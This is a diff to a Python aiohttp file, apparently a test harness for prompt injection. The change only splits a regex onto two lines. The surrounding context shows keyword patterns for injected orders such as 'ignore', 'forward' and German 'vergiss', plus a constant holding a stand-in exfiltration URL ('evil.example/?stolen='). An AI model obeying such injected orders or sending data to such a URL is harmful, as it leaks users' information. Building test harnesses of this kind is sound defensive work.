@@ -27,7 +27,8 @@ from aiohttp import web
 _PATH = re.compile(r"^Path: (\".*\")$", re.MULTILINE)
 _DOCUMENT = re.compile(r"<document (\w+)>\n(.*)\n</document \1>", re.DOTALL)
 _ORDER = re.compile(
-    r"ignore|insert|approve|send|assign|delete|forward|table|vergiss|tabelle|genehmig", re.IGNORECASE
+    r"ignore|insert|approve|send|assign|delete|forward|table|vergiss|tabelle|genehmig",
+    re.IGNORECASE,
 )
 _TABLE = re.compile(r"(?:table|tabelle)\s+(?:of\s+)?(\w+)", re.IGNORECASE)
 _EXFILTRATION = "https://visit.evil.example/?stolen="
